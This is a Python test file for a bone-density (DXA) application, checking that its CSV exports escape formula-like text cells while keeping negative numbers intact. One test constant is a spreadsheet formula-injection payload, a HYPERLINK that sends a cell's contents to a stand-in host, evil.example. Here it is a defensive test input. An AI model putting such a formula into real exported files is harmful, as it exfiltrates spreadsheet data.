"""Every CSV the program writes escapes formula-like text cells, and never a number's sign."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dxa_app.centre.bundle import VerifiedBundle, csv_bytes
from dxa_app.centre.stats import CentreStats, stats_csv
from dxa_app.csv_safety import escape_cell, unescape_cell
from dxa_app.demo.apex_writers import write_apex_folder
from dxa_app.demo.csv_writers import write_patient_results
from dxa_app.demo.generate import generate
from dxa_app.domain import Manufacturer, ScannerIdentity, StudyRecord
from dxa_app.ingest.generic_csv import read

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Klik her")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=already", "''=already"),
        # numbers: the sign is data
        ("-0.5", "-0.5"),
        ("-1.2", "-1.2"),
        ("-1,2", "-1,2"),
        ("+3", "+3"),
        ("-1.5e-3", "-1.5e-3"),
        ("-.5", "-.5"),
        # ordinary text
        ("Hvidovre", "Hvidovre"),
        ("2025-01-31", "2025-01-31"),
        ("", ""),
        ("'quoted'", "'quoted'"),
    ],
)
def test_escape_cell(cell: str, written: str) -> None:
    assert escape_cell(cell) == written
    assert unescape_cell(written) == cell


def test_non_text_cells_are_left_to_the_writer() -> None:
    assert escape_cell(-0.5) == -0.5
    assert escape_cell(-3) == -3
    assert escape_cell(None) is None


@given(st.text())
def test_unescape_undoes_escape(text: str) -> None:
    assert unescape_cell(escape_cell(text)) == text
    escaped = escape_cell(text)
    assert not escaped[:1] or escaped[0] not in "=+@\t\r" or escaped == text == ""
    if escaped.startswith("-"):
        assert escaped == text  # only a number may keep its leading minus


def _stats_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_centre_stats_csv_escapes_a_formula_site_name_not_negative_numbers() -> None:
    stats = CentreStats(
        site_months=[{"site": FORMULA, "month": "2025-01", "studies": 3, "qc_scans": -1}],
        esp=[
            {
                "month": "2025-01",
                "round": "-R1",
                "region": "L1",
                "scanners": 4,
                **{
                    f"{kind}_{k}": v
                    for kind in ("raw", "harmonised")
                    for k, v in (("mean", -0.5), ("sd", 0.01), ("cv_pct", -1.2), ("range", 0.03))
                },
            }
        ],
    )
    rows = _stats_rows(stats_csv(stats))
    assert rows[0]["site"] == "'" + FORMULA
    assert rows[0]["qc_scans"] == "-1"
    assert rows[1]["round"] == "'-R1"
    assert rows[1]["esp_raw_mean"] == "-0.5"
    assert rows[1]["esp_harmonised_cv_pct"] == "-1.2"


def test_bundle_csv_escapes_and_reads_back_what_was_written() -> None:
    data = csv_bytes(("key", "round", "bmd_g_cm2"), [("k1", FORMULA, -0.5), ("k2", "-R", None)])
    lines = data.decode("utf-8").splitlines()
    assert lines[1].startswith("k1,\"'=HYPERLINK(") and lines[1].endswith(",-0.5")
    assert lines[2] == "k2,'-R,"
    bundle = VerifiedBundle(Path("b.zip"), "", {}, {"m.csv": data})
    assert bundle.csv_rows("m.csv") == [
        {"key": "k1", "round": FORMULA, "bmd_g_cm2": "-0.5"},
        {"key": "k2", "round": "-R", "bmd_g_cm2": ""},
    ]


def _demo_study() -> tuple[ScannerIdentity, StudyRecord]:
    data = generate(2026)
    scanner = next(s for s in data.scanners if s.export == "csv")
    study = data.studies[scanner.key][0]
    patient = replace(study.patient, name="@Søs =Ærø")
    return scanner.identity, replace(study, patient=patient)


def _vendor_scores(study: StudyRecord) -> list[float | None]:
    return [r.vendor_t for s in study.scans for r in s.results]


def test_demo_generic_csv_escapes_text_keeps_negative_scores_and_reads_back(
    tmp_path: Path,
) -> None:
    _scanner, study = _demo_study()
    assert any((t or 0) < 0 for t in _vendor_scores(study))
    path = write_patient_results(tmp_path / "r.csv", "=SITE()", [study])
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()[1:]))
    header, first = rows[0], rows[1]
    assert first[header.index("site")] == "'=SITE()"
    assert first[header.index("patient_name")] == "'@Søs =Ærø"
    negative = [r[header.index("vendor_t")] for r in rows[1:] if r[header.index("vendor_t")]]
    assert any(v.startswith("-") and float(v) < 0 for v in negative), negative
    parsed = read(path)  # the program's own CSV readers undo the escape
    assert parsed.studies[0].scanner.institution_name == "=SITE()"
    assert parsed.studies[0].patient.name == "@Søs =Ærø"
    assert _vendor_scores(parsed.studies[0]) == _vendor_scores(study)


def test_demo_apex_tables_escape_text(tmp_path: Path) -> None:
    scanner, study = _demo_study()
    hologic = replace(scanner, manufacturer=Manufacturer.HOLOGIC)
    folder = write_apex_folder(tmp_path / "apex", scanner=hologic, studies=[study], qc_scans=[])
    patient = (folder / "PATIENT.csv").read_text(encoding="utf-8")
    assert '"\'=Ærø"' in patient and '"\'@Søs"' in patient, patient
    assert ',"=' not in patient and ',"@' not in patient
